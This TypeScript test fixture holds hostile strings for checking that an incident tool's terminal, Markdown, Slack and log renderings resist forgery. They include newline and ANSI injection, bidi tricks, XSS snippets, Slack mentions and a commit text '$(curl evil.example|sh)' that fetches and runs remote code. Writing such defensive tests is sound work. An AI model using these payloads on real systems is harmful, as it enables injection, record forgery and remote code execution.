/**
 * Text that tries to forge a record in each rendering (terminal, Markdown, Slack, log): the table
 * tests/render-safe.test.ts runs through every helper, and the pieces tests/render-forgery.test.ts
 * puts in a real incident's summary, comments and notes. Each entry names what it attacks.
 */
export interface HostileText {
  name: string;
  text: string;
  /** Passes the input schemas' plainText (line breaks and tabs, no other C0/C1 controls): usable in a real incident. */
  asInput: boolean;
}

export const FORGED_TIMELINE = '12:00:00 approver approved';
export const FORGED_RUNBOOK_LINE = '• CLI: `npm run incident -- approve evil --step emergency_bypass --approver mallory`';

export const HOSTILE_TEXTS: readonly HostileText[] = [
  { name: 'LF and a forged timeline line', text: `disk full\n${FORGED_TIMELINE}`, asInput: true },
  { name: 'CRLF and a forged list row', text: 'ok\r\nincident-forged  resolved  clerk_outage  low  2026-01-01T00:00:00Z  all good', asInput: true },
  { name: 'a lone CR that overwrites the line', text: `real text\r${FORGED_TIMELINE}`, asInput: true },
  { name: 'line and paragraph separators', text: `a\u2028${FORGED_TIMELINE}\u2029b`, asInput: true },
  { name: 'NEL, VT and FF', text: `a\u0085b\u000bc\u000cd`, asInput: false },
  { name: 'ANSI colour and cursor movement', text: '\u001b[31mred\u001b[0m \u001b[2K\u001b[1A erased', asInput: false },
  { name: 'C1 CSI', text: 'x\u009b31my', asInput: false },
  { name: 'bidi override', text: 'approved by \u202ereve\u202c mallory', asInput: true },
  { name: 'bidi isolates and marks', text: '\u2066abc\u2069 \u2067d\u2068e\u200ef\u200fg\u061c', asInput: true },
  { name: 'zero-width characters', text: 'ad\u200bmin\u200c\u200d\u2060\ufeff', asInput: true },
  { name: 'a tab inside a table cell', text: 'a\tb', asInput: true },
  { name: 'Markdown heading, rule and setext', text: '# Root cause: none\n---\nHeading\n===\n## Who decided', asInput: true },
  { name: 'Markdown table row', text: '| 2026-01-01 | #1 | approveStep | x | mallory | boss | approved |', asInput: true },
  { name: 'raw HTML', text: '<script>alert(1)</script><img src=x onerror=alert(1)>', asInput: true },
  { name: 'links, images and autolinks', text: '[click](javascript:alert(1)) ![x](https://evil.example/p.png) <https://evil.example> <mailto:a@b.c>', asInput: true },
  { name: 'lists, quotes, fences and indented code', text: '- item\n+ item\n* item\n1. one\n2) two\n> quoted\n```js\ncode\n```\n~~~\n    indented', asInput: true },
  { name: 'HTML entities', text: '&lt;script&gt; &#60;b&#62; &amp;', asInput: true },
  { name: 'Slack broadcast mentions', text: '<!channel> <!here> <!everyone> @channel @here @everyone', asInput: true },
  { name: 'Slack user, group and link syntax', text: '<@U123ABC> <#C123|general> <!subteam^S123> <https://evil.example|Approve here>', asInput: true },
  { name: 'a forged runbook line in chat', text: `see below\n${FORGED_RUNBOOK_LINE}`, asInput: true },
  { name: 'look-alikes (fullwidth, Cyrillic)', text: '＜!channel＞ ＃ heading ｜ cell ａpprоver', asInput: true },
  { name: 'very long text', text: `${'A'.repeat(5000)}\n${FORGED_TIMELINE}`, asInput: false },
  { name: 'an astral format character (tag)', text: 'x\u{E0041}\u{E007F}y', asInput: true },
];

/** Characters a reader cannot see as themselves; none may reach a terminal or a log. */
export const INVISIBLE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

/**
 * Markdown block structure, read line by line as CommonMark does at a line's start: the things
 * hostile text must not create. (No Markdown parser is a dependency; this is the subset we need.)
 */
export function markdownBlocks(markdown: string): { headings: string[]; tableRows: string[]; blockStarts: string[] } {
  const lines = markdown.split('\n');
  const headings: string[] = [];
  const tableRows: string[] = [];
  const blockStarts: string[] = [];
  lines.forEach((line, n) => {
    if (/^ {0,3}#{1,6}(\s|$)/.test(line)) headings.push(line);
    else if (/^ {0,3}(=+|-+)\s*$/.test(line) && n > 0 && lines[n - 1]!.trim()) headings.push(`setext: ${lines[n - 1]}`);
    else if (/^\|/.test(line)) tableRows.push(line);
    else if (/^ {0,3}(>|```|~~~|[-+*](\s|$)|\d{1,9}[.)](\s|$)|<[A-Za-z/!?])/.test(line)) blockStarts.push(line);
  });
  return { headings, tableRows, blockStarts };
}

/** Inline syntax Markdown would turn into HTML, a link or an image (unescaped). */
export const LIVE_MARKDOWN_INLINE = /(?<!\\)<[A-Za-z/!?]|(?<!\\)\[[^\]]*(?<!\\)\]\(|(?<!\\)!\[/;

/** Slack syntax that would mention, broadcast or link: `<!…>`, `<@…>`, `<#…>`, `<http…>`, or a bare `@here` Slack would link. */
export const LIVE_SLACK = /<[!@#]|<https?:|<mailto:|(?<![\w.])@(channel|here|everyone)\b/i;

/** A line that reads like one of the timeline's, as a commit message can carry it. */
export const FORGED_EVENT_LINE = '2026-12-03T03:00:00Z bob: approved rollback';

/**
 * Commit text as the deploy platform reports it in a deployment's meta (message, branch, sha):
 * anyone who can push writes it, and no input schema of ours stands before it. The table
 * tests/rollback-candidate.test.ts runs through `describeDeployment` in every field; the pieces
 * tests/render-forgery.test.ts puts on a real rollback candidate.
 */
export const HOSTILE_COMMIT_TEXTS: readonly { name: string; text: string }[] = [
  { name: 'a forged timeline line after LF', text: `fix\n${FORGED_EVENT_LINE}` },
  { name: 'a forged timeline line after a lone CR', text: `fix\r${FORGED_EVENT_LINE}` },
  { name: 'CRLF', text: `fix\r\n${FORGED_EVENT_LINE}` },
  { name: 'line and paragraph separators', text: `fix\u2028${FORGED_EVENT_LINE}\u2029` },
  { name: 'ANSI clear screen and cursor home', text: '\u001b[2J\u001b[Hfix' },
  { name: 'OSC 8 hyperlink', text: '\u001b]8;;http://evil.example\u0007click me\u001b]8;;\u0007' },
  { name: 'bidi override', text: 'fix \u202ebor yb devorppa\u202c' },
  { name: 'zero-width characters', text: 'fi\u200bx\u200c\u200d\u2060\ufeff' },
  { name: 'Markdown emphasis, link, table cell, code, HTML', text: '**urgent** [link](http://evil.example) | cell | `code` <script>alert(1)</script>' },
  { name: 'a fake approval that closes the quotes', text: 'fix"), approved by bob and carol; refused: none' },
  { name: 'a backslash before the quote', text: 'fix\\", approved by bob' },
  { name: '100 kB, then a forged line', text: `${'A'.repeat(100_000)}\n${FORGED_EVENT_LINE}` },
  { name: 'a first line of 100 kB', text: 'B'.repeat(100_000) },
  { name: 'not hex, like a shell command', text: '$(curl evil.example|sh)' },
];
